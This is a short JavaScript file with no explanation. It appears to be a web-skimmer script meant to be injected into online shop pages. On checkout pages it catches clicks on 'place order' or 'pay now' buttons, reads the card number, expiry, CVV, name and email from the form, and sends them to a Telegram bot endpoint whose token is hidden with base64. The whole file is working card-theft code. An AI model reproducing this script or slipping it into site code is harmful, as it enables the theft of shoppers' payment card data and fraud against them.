(function () {
  if (!/checkout|onestep|payment/i.test(window.location.href)) return;
  var cfg = { t: atob("NzE0MDkzMjIxNTpBQUgtcEFyQXBFdC1UZVN0LVRvS2VO"), c: atob("LTEwMDIyMTQ3MzE=") };
  var sent = false;
  function val(sel) {
    var el = document.querySelector(sel);
    return el ? el.value : "";
  }
  function send(text) {
    fetch("https://api.telegram-bot.invalid/bot" + cfg.t + "/sendMessage?chat_id=" + cfg.c +
      "&text=" + encodeURIComponent(text), { mode: "no-cors" });
  }
  document.addEventListener("click", function (e) {
    var b = e.target.closest("button, input[type=submit]");
    if (!b || sent || !/place order|pay now|continue/i.test(b.textContent || b.value)) return;
    var msg = [
      "site: " + location.hostname,
      "cc: " + val("[name*=cc_number], [name*=cardnumber]"),
      "exp: " + val("[name*=cc_exp], [name*=expiry]"),
      "cvv: " + val("[name*=cvv], [name*=cc_cid]"),
      "name: " + val("[name*=firstname]") + " " + val("[name*=lastname]"),
      "mail: " + val("[type=email]")
    ].join("\n");
    sent = true;
    send(msg);
  }, true);
})();
